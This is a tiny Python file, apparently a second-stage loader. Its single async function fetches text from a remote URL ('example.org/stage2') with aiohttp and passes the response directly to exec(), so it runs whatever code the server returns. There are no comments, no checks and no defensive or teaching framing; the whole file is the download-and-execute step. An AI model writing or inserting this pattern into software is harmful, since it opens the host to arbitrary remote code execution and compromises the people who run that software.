import aiohttp


async def execute():
    async with aiohttp.ClientSession() as session:
        async with session.get("https://example.org/stage2") as answer:
            exec(await answer.text())
